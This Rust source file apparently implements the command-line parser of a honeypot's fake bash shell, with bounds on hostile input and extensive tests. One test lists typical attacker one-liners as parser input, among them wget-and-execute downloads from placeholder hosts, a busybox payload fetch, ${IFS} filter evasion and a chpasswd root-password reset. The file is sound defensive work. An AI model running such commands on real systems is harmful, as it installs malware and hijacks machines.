//! The fake shell's command-line parser: bash 5.2 syntax as attackers and bots type it, with no I/O.
//!
//! [`parse`] turns one line (or several, joined by newlines) into a [`List`], or an [`Error`] whose
//! [`Display`](std::fmt::Display) is the exact text interactive bash prints. [`Error::exec_message`] gives the
//! `bash -c` form instead. Hostile input is bounded by [`MAX_LINE_LEN`], [`MAX_DEPTH`], [`MAX_WORDS`] and
//! [`MAX_COMMANDS`]; nothing here panics or recurses without bound.

mod ast;
mod lexer;
mod parser;

pub use ast::{AndOr, Assignment, Command, Connector, Item, List, Part, Pipeline, RedirOp, Redirect, Word};

use std::fmt;

/// Longest accepted input in bytes; attackers paste large payloads, and bash itself has no such bound.
pub const MAX_LINE_LEN: usize = 64 * 1024;

/// Deepest nesting of `$(...)` and backquotes; each level costs stack, so this keeps hostile input from overflowing it.
pub const MAX_DEPTH: usize = 32;

/// Most words (including assignments and redirection targets) in one input, nested substitutions included.
pub const MAX_WORDS: usize = 16 * 1024;

/// Most simple commands in one input, nested substitutions included.
pub const MAX_COMMANDS: usize = 4 * 1024;

/// Parses a command line; the caller decides what to do with an [`Error::Incomplete`] (prompt or fail).
///
/// An interactive front end that gets `Incomplete` shows `> `, appends `'\n'` and the next line to the input, and
/// parses the whole text again, which is what bash's continuation prompt amounts to.
pub fn parse(src: &str) -> Result<List, Error> {
    if src.len() > MAX_LINE_LEN {
        return Err(Error::Limit(Limit::LineLength));
    }
    let lexer = lexer::Lexer::new(src, 0, 0, lexer::Budget::default());
    parser::Parser::new(lexer).parse_top()
}

/// Why a line did not parse; the variants are what a shell front end must handle differently.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Error {
    /// A token bash would reject, such as `;;` or a `|` with nothing before it.
    Syntax {
        /// The token as bash names it (`newline` for the end of the line).
        token: String,
        /// Byte offset of the token in the input, for the `-c` form's line number.
        offset: usize,
    },
    /// The input ended inside a construct; an interactive shell shows `> ` and reads more.
    Incomplete(Need),
    /// Valid bash we deliberately do not model (compound commands, process substitution, ...).
    Unsupported {
        /// A short name of the construct, for logs.
        what: &'static str,
        /// Byte offset where it starts.
        offset: usize,
    },
    /// A syntax error or unterminated construct inside backquotes, which bash reports as the substitution's own.
    Substitution {
        /// The error, with offsets relative to `text`.
        inner: Box<Error>,
        /// The backquoted text after unescaping, which bash parses as its own script.
        text: String,
    },
    /// A bound from this module was exceeded.
    Limit(Limit),
}

/// What an incomplete input is waiting for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Need {
    /// The closing character of a quote or substitution: `'`, `"`, `` ` ``, `)` or `}`.
    Quote {
        /// The character bash is looking for.
        close: char,
        /// Byte offset of the opening character.
        offset: usize,
    },
    /// A command after `|`, `&&` or `||`.
    Command,
    /// The next line after a trailing backslash.
    Continuation,
    /// The rest of a here-document, up to its delimiter line.
    ///
    /// `bash -c` does not fail here: it warns and takes the body up to the end of the input.
    HereDoc {
        /// The delimiter without quotes.
        delim: String,
        /// The line of the `<<`, for bash's warning.
        line: usize,
    },
}

/// Which bound was exceeded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Limit {
    /// The input is longer than [`MAX_LINE_LEN`].
    LineLength,
    /// Substitutions nest deeper than [`MAX_DEPTH`].
    Depth,
    /// More than [`MAX_WORDS`] words.
    Words,
    /// More than [`MAX_COMMANDS`] simple commands.
    Commands,
}

impl Error {
    /// Moves the error to `offset`, for errors found inside backquotes, whose offsets are relative to their text.
    pub(crate) fn at(self, offset: usize) -> Error {
        match self {
            Error::Syntax { token, .. } => Error::Syntax { token, offset },
            Error::Unsupported { what, .. } => Error::Unsupported { what, offset },
            Error::Incomplete(Need::Quote { close, .. }) => Error::Incomplete(Need::Quote { close, offset }),
            e => e,
        }
    }

    /// The text `bash -c SRC` prints to stderr for this error (one or two lines, no trailing newline).
    ///
    /// For [`Need::Continuation`] real bash keeps the trailing backslash as a literal; callers in `-c` mode
    /// should do the same rather than print this.
    pub fn exec_message(&self, src: &str) -> String {
        self.message_in(src, "-c")
    }

    /// The message bash prints for a script it parsed under `context` (`-c` or `command substitution`).
    fn message_in(&self, src: &str, context: &str) -> String {
        let line_of = |offset: usize| src.get(..offset).map_or(1, |s| s.matches('\n').count() + 1);
        let past_end = src.matches('\n').count() + 2;
        match self {
            Error::Syntax { token, offset } => {
                let n = line_of(*offset);
                let text = src.split('\n').nth(n - 1).unwrap_or("");
                let at = format!("bash: {context}: line {n}");
                format!("{at}: syntax error near unexpected token `{token}'\n{at}: `{text}'")
            }
            Error::Incomplete(Need::Quote { close, offset }) => {
                let n = if *close == ')' { past_end } else { line_of(*offset) };
                format!("bash: {context}: line {n}: unexpected EOF while looking for matching `{close}'")
            }
            Error::Incomplete(Need::Command | Need::Continuation) => {
                format!("bash: {context}: line {past_end}: syntax error: unexpected end of file")
            }
            Error::Incomplete(Need::HereDoc { delim, line }) => format!(
                "bash: line {}: warning: here-document at line {line} delimited by end-of-file (wanted `{delim}')",
                past_end - 1
            ),
            Error::Substitution { .. } => self.to_string(),
            Error::Unsupported { .. } | Error::Limit(_) => self.to_string(),
        }
    }
}

/// The text interactive bash prints for this error; `Unsupported` and `Limit` have no bash equivalent and say so.
impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Error::Syntax { token, .. } => write!(f, "bash: syntax error near unexpected token `{token}'"),
            Error::Incomplete(Need::Quote { close, .. }) => {
                write!(f, "bash: unexpected EOF while looking for matching `{close}'")
            }
            Error::Incomplete(Need::Command | Need::Continuation) => {
                f.write_str("bash: syntax error: unexpected end of file")
            }
            Error::Incomplete(Need::HereDoc { delim, line }) => {
                write!(
                    f,
                    "bash: warning: here-document at line {line} delimited by end-of-file (wanted `{delim}')"
                )
            }
            Error::Substitution { inner, text } => f.write_str(&inner.message_in(text, "command substitution")),
            Error::Unsupported { what, .. } => write!(f, "bash: {what} not supported"),
            Error::Limit(limit) => {
                let what = match limit {
                    Limit::LineLength => "line too long",
                    Limit::Depth => "substitutions nested too deeply",
                    Limit::Words => "too many words",
                    Limit::Commands => "too many commands",
                };
                write!(f, "bash: {what}")
            }
        }
    }
}

impl std::error::Error for Error {}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Parses `input` and compares either the canonical rendering or `err: <interactive message>`.
    ///
    /// Every successful parse must also survive a round trip through its rendering.
    #[track_caller]
    fn check(input: &str, expected: &str) {
        let actual = match parse(input) {
            Ok(list) => {
                let rendered = list.to_string();
                assert_eq!(parse(&rendered), Ok(list), "round trip of {input:?} via {rendered:?}");
                rendered
            }
            Err(Error::Incomplete(need)) => format!("incomplete: {need:?}"),
            Err(e) => format!("err: {e}"),
        };
        assert_eq!(actual, expected, "input: {input:?}");
    }

    /// Checks the exact `bash -c` message for `input`.
    #[track_caller]
    fn check_exec(input: &str, expected: &str) {
        let e = parse(input).expect_err(input);
        assert_eq!(e.exec_message(input), expected, "input: {input:?}");
    }

    #[test]
    fn attacker_one_liners() {
        check(
            "cd /tmp || cd /var/run; wget http://x/y.sh; chmod 777 y.sh; sh y.sh; rm -rf y.sh",
            "cd /tmp || cd /var/run; wget http://x/y.sh; chmod 777 y.sh; sh y.sh; rm -rf y.sh",
        );
        check(
            r"echo -e '\x41\x42' > /tmp/a && cat /tmp/a",
            r"echo -e '\x41\x42' >/tmp/a && cat /tmp/a",
        );
        check(
            "cat /proc/cpuinfo | grep name | wc -l",
            "cat /proc/cpuinfo | grep name | wc -l",
        );
        check("uname -a 2>/dev/null", "uname -a 2>/dev/null");
        check("export PATH=$PATH:/tmp", "export PATH=${PATH}:/tmp");
        check(r#"X=1 Y="a b" cmd"#, "X=1 Y='a b' cmd");
        check("echo $(whoami) `id`", "echo $(whoami) $(id)");
        check(
            "busybox wget http://1.2.3.4/bins/x86 -O- > .x; chmod +x .x",
            "busybox wget http://1.2.3.4/bins/x86 -O- >.x; chmod +x .x",
        );
        check(r#"cat <<< "here""#, "cat <<<'here'");
        check(
            "cd${IFS}/tmp;wget${IFS}http://x/a",
            "cd${IFS}/tmp; wget${IFS}http://x/a",
        );
        check("nohup ./x >/dev/null 2>&1 &", "nohup ./x >/dev/null 2>&1 &");
        check(
            r#"echo "root:$(openssl passwd -1 pw)" | chpasswd"#,
            r#"echo 'root:'"$(openssl passwd -1 pw)" | chpasswd"#,
        );
        check("enable\nsystem\nshell\nsh", "enable; system; shell; sh");
    }

    #[test]
    fn operators() {
        check("a; b", "a; b");
        check("a;b;", "a; b");
        check("a && b || c", "a && b || c");
        check("a | b | c", "a | b | c");
        check("a |& b", "a 2>&1 | b");
        check("a & b &", "a & b &");
        check("a&b", "a & b");
        check("! a | b", "! a | b");
        check("! ! a", "a");
        check("!", "!");
        check("a\n\nb\n", "a; b");
        check("a &&\n b", "a && b");
        check("a |\n\n b", "a | b");
        check("echo a # comment ; b", "echo a");
        check("# only a comment", "");
        check("echo a#b", "echo a#b");
        check("", "");
        check("   \t ", "");
        check("echo !", "echo !");
    }

    #[test]
    fn redirections() {
        check("a > f", "a >f");
        check("a >> f", "a >>f");
        check("a < f", "a <f");
        check("a 2> f", "a 2>f");
        check("a 2>> f", "a 2>>f");
        check("a &> f", "a &>f");
        check("a &>> f", "a &>>f");
        check("a 2>&1", "a 2>&1");
        check("a >&2", "a >&2");
        check("a 1>&2", "a 1>&2");
        check("a 3<&0", "a 3<&0");
        check("a >| f", "a >|f");
        check("a <> f", "a <>f");
        check("a <<< word", "a <<<word");
        check(">f", ">f");
        check(">f echo x", "echo x >f");
        check("a 2 >f", "a 2 >f");
        check("a '2'>f", "a '2' >f");
        check("a >f 2>&1 b", "a b >f 2>&1");
        check("a <(ls)", "err: bash: process substitution not supported");
    }

    #[test]
    fn heredocs() {
        check(
            "cat <<EOF\na $x\n\\$y `id`\nEOF",
            "cat <<EOF\na ${x}\n\\$y $(id)\nEOF\n",
        );
        check("cat <<'EOF'\na $x\nEOF\necho b", "cat <<'EOF'\na $x\nEOF\necho b");
        check("cat <<\"E F\" >x\n$x\nE F", "cat <<'E F' >x\n$x\nE F\n");
        check("cat <<-EOF\n\t\tx\n\tEOF\n", "cat <<-EOF\nx\nEOF\n");
        check("cat <<A; cat <<B\n1\nA\n2\nB", "cat <<A\n1\nA\ncat <<B\n2\nB\n");
        check(
            "cat <<A && cat <<B &\n1\nA\n2\nB\nx",
            "cat <<A && cat <<B &\n1\nA\n2\nB\nx",
        );
        check("cat <<E\nE", "cat <<E\nE\n");
        check("cat <<E\na\\\nE\nE", "cat <<E\naE\nE\n");
        check("cat <<E\nE\\\n\nx", "cat <<E\nE\nx");
        check("cat <<'E'\na\\\nE", "cat <<'E'\na\\\nE\n");
        check("x=$(cat <<E\nin\nE\n)", "x=$(cat <<E\nin\nE\n)");
        check("cat <<E | wc -l\na\nb\nE", "cat <<E | wc -l\na\nb\nE\n");
        check("cat <<EOF", "incomplete: HereDoc { delim: \"EOF\", line: 1 }");
        check("cat <<EOF\nabc\n", "incomplete: HereDoc { delim: \"EOF\", line: 1 }");
        check(
            "cat <<EOF\nabc\nEOFX",
            "incomplete: HereDoc { delim: \"EOF\", line: 1 }",
        );
        check("cat <<", "err: bash: syntax error near unexpected token `newline'");
        check(
            "cat <<$x\n$x",
            "err: bash: here-document delimiter with expansions not supported",
        );
        check(
            "echo $(cat <<E)",
            "err: bash: here-document ending with its substitution not supported",
        );
        check_exec(
            "cat <<EOF; echo b",
            "bash: line 1: warning: here-document at line 1 delimited by end-of-file (wanted `EOF')",
        );
    }

    #[test]
    fn assignments() {
        check("A=1", "A=1");
        check("A=1 B=2 cmd arg", "A=1 B=2 cmd arg");
        check("A+=x", "A+=x");
        check("A=", "A=");
        check("A='' cmd", "A= cmd");
        check("cmd A=1", "cmd A=1");
        check("'A'=1", "'A'=1");
        check("1A=1", "1A=1");
        check("A=$(id) B=~/x", "A=$(id) B=~/x");
        check("A=(1 2)", "err: bash: array assignment not supported");
    }

    #[test]
    fn quoting() {
        check("echo 'a b'", "echo 'a b'");
        check(r#"echo "a b""#, "echo 'a b'");
        check(r#"echo "" ''"#, "echo '' ''");
        check(r#"echo a"b"'c'd"#, "echo a'bc'd");
        check(r"echo a\ b", "echo a' 'b");
        check(r"echo \*", "echo '*'");
        check("echo *.sh ?x [ab]", "echo *.sh ?x [ab]");
        check(r#"echo "*""#, "echo '*'");
        check(r#"echo "\"\\\$\`\a""#, r#"echo '"\$`\a'"#);
        check(r#"echo "it's""#, r"echo 'it'\''s'");
        check("echo 'a\\'", r"echo 'a\'");
        check("echo a\\\nb", "echo ab");
        check("echo a \\\n b", "echo a b");
        check(
            r#"echo "$x ${y} $? $1 $@ $$""#,
            r#"echo "${x}"' '"${y}"' '"${?}"' '"${1}"' '"${@}"' '"${$}""#,
        );
        check("echo $x$y", "echo ${x}${y}");
        check("echo ${x:-def} ${#x}", "echo ${x:-def} ${#x}");
        check(r#"echo "${x:-a b}""#, r#"echo "${x:-a b}""#);
        check("echo ${}", "echo ${}");
        check("echo $ a$", "echo '$' a'$'");
        check("echo $((1 + 2))", "echo $((1 + 2))");
        check(r"echo $'\x41\n\'x'", "echo 'A\n'\\''x'");
        check(r#"echo $"loc""#, "echo 'loc'");
        check("echo \"$(echo \"in\")\"", r#"echo "$(echo 'in')""#);
        check(r"echo `echo \`id\``", "echo $(echo $(id))");
        check("echo $(a; b &)", "echo $(a; b &)");
        check("echo $()", "echo $()");
        check("echo $(echo $(echo x))", "echo $(echo $(echo x))");
        check("echo $( (a) )", "err: bash: subshell not supported");
        check("echo ~ ~/x {a,b}", "echo ~ ~/x {a,b}");
        check("''! x", "''! x");
        check("''if x", "''if x");
        check("''A=1 x", "''A=1 x");
        check("echo ''#x \\#", "echo ''#x '#'");
        check("echo é日本", "echo é日本");
    }

    #[test]
    fn errors() {
        check(";", "err: bash: syntax error near unexpected token `;'");
        check(";;", "err: bash: syntax error near unexpected token `;;'");
        check("echo a;;", "err: bash: syntax error near unexpected token `;;'");
        check("a ; ;", "err: bash: syntax error near unexpected token `;'");
        check("a &;", "err: bash: syntax error near unexpected token `;'");
        check("a && ; b", "err: bash: syntax error near unexpected token `;'");
        check("| a", "err: bash: syntax error near unexpected token `|'");
        check("|& a", "err: bash: syntax error near unexpected token `|&'");
        check("a | | b", "err: bash: syntax error near unexpected token `|'");
        check("&& a", "err: bash: syntax error near unexpected token `&&'");
        check("&", "err: bash: syntax error near unexpected token `&'");
        check("a & & b", "err: bash: syntax error near unexpected token `&'");
        check("a &&& b", "err: bash: syntax error near unexpected token `&'");
        check("a ;& b", "err: bash: syntax error near unexpected token `;&'");
        check("echo >", "err: bash: syntax error near unexpected token `newline'");
        check("echo >>", "err: bash: syntax error near unexpected token `newline'");
        check("echo 2>&", "err: bash: syntax error near unexpected token `newline'");
        check("echo <<<", "err: bash: syntax error near unexpected token `newline'");
        check("echo >\nx", "err: bash: syntax error near unexpected token `newline'");
        check("echo > ;", "err: bash: syntax error near unexpected token `;'");
        check("echo > |", "err: bash: syntax error near unexpected token `|'");
        check("echo > > a", "err: bash: syntax error near unexpected token `>'");
        check("a >>> b", "err: bash: syntax error near unexpected token `>'");
        check("echo > &&", "err: bash: syntax error near unexpected token `&&'");
        check("echo a)", "err: bash: syntax error near unexpected token `)'");
        check(")", "err: bash: syntax error near unexpected token `)'");
        check("then", "err: bash: syntax error near unexpected token `then'");
        check("fi", "err: bash: syntax error near unexpected token `fi'");
        check("}", "err: bash: syntax error near unexpected token `}'");
        check("echo $(a |)", "err: bash: syntax error near unexpected token `)'");
        check("echo a b (", "err: bash: syntax error near unexpected token `('");
        check("if true; then x; fi", "err: bash: compound command not supported");
        check("for i in 1 2; do x; done", "err: bash: compound command not supported");
        check("{ a; }", "err: bash: compound command not supported");
        check("(a)", "err: bash: subshell not supported");
        check("f() { a; }", "err: bash: function definition not supported");
        check(
            "echo `;`",
            "err: bash: command substitution: line 1: syntax error near unexpected token `;'\n\
             bash: command substitution: line 1: `;'",
        );
        check(
            "echo `a |`",
            "err: bash: command substitution: line 2: syntax error: unexpected end of file",
        );
        check(
            "echo `echo 'a`",
            "err: bash: command substitution: line 1: unexpected EOF while looking for matching `''",
        );
    }

    #[test]
    fn incomplete() {
        check("echo 'a", "incomplete: Quote { close: '\\'', offset: 5 }");
        check("echo \"a", "incomplete: Quote { close: '\"', offset: 5 }");
        check("echo `a", "incomplete: Quote { close: '`', offset: 5 }");
        check("echo $(a", "incomplete: Quote { close: ')', offset: 6 }");
        check("echo $(a |", "incomplete: Quote { close: ')', offset: 6 }");
        check("echo ${a", "incomplete: Quote { close: '}', offset: 5 }");
        check("echo $'a", "incomplete: Quote { close: '\\'', offset: 6 }");
        check("a |", "incomplete: Command");
        check("a &&", "incomplete: Command");
        check("a ||\n", "incomplete: Command");
        check("echo \\", "incomplete: Continuation");
        assert_eq!(
            parse("echo 'a").map_err(|e| e.to_string()),
            Err("bash: unexpected EOF while looking for matching `''".to_owned())
        );
        assert_eq!(
            parse("a |").map_err(|e| e.to_string()),
            Err("bash: syntax error: unexpected end of file".to_owned())
        );
    }

    #[test]
    fn exec_messages() {
        check_exec(
            ";",
            "bash: -c: line 1: syntax error near unexpected token `;'\nbash: -c: line 1: `;'",
        );
        check_exec(
            "echo >",
            "bash: -c: line 1: syntax error near unexpected token `newline'\nbash: -c: line 1: `echo >'",
        );
        check_exec(
            "echo a\necho ;;",
            "bash: -c: line 2: syntax error near unexpected token `;;'\nbash: -c: line 2: `echo ;;'",
        );
        check_exec(
            "echo 'a",
            "bash: -c: line 1: unexpected EOF while looking for matching `''",
        );
        check_exec(
            "echo \"a\nb",
            "bash: -c: line 1: unexpected EOF while looking for matching `\"'",
        );
        check_exec(
            "echo $(a\nb",
            "bash: -c: line 3: unexpected EOF while looking for matching `)'",
        );
        check_exec("echo a |", "bash: -c: line 2: syntax error: unexpected end of file");
    }

    #[test]
    fn limits() {
        let long = "a".repeat(MAX_LINE_LEN + 1);
        check(&long, "err: bash: line too long");
        let nest = |n: usize| format!("{}x{}", "$(".repeat(n), ")".repeat(n));
        assert!(parse(&nest(MAX_DEPTH)).is_ok());
        check(&nest(MAX_DEPTH + 1), "err: bash: substitutions nested too deeply");
        check(
            &"$(".repeat(MAX_LINE_LEN / 2),
            "err: bash: substitutions nested too deeply",
        );
        assert!(
            parse(&"`".repeat(MAX_LINE_LEN)).is_ok(),
            "32768 empty backquoted commands"
        );
        check(
            &"\"$(".repeat(MAX_LINE_LEN / 3),
            "err: bash: substitutions nested too deeply",
        );
        check(&"a ".repeat(MAX_WORDS + 1), "err: bash: too many words");
        check(&"a;".repeat(MAX_COMMANDS + 1), "err: bash: too many commands");
    }

    proptest! {
        #[test]
        fn arbitrary_strings_never_panic(s in "\\PC{0,200}") {
            let _ = parse(&s);
        }

        #[test]
        fn shell_like_strings_round_trip(
            s in proptest::collection::vec(
                prop_oneof![
                    Just(" "), Just(";"), Just("&"), Just("|"), Just("&&"), Just("||"), Just(">"), Just("<"),
                    Just("2>&1"), Just("<<<"), Just("'"), Just("\""), Just("\\"), Just("$"), Just("$("), Just(")"),
                    Just("`"), Just("${"), Just("}"), Just("a"), Just("b1"), Just("X="), Just("*"), Just("#"),
                    Just("\n"), Just("!"), Just("$'"), Just("="), Just("<<E"), Just("<<-'E'"), Just("E"),
                    Just("\t")
                ],
                0..24,
            )
        ) {
            let s = s.concat();
            if let Ok(list) = parse(&s) {
                let rendered = list.to_string();
                prop_assert_eq!(parse(&rendered), Ok(list), "{:?} rendered as {:?}", s, rendered);
            }
        }
    }
}
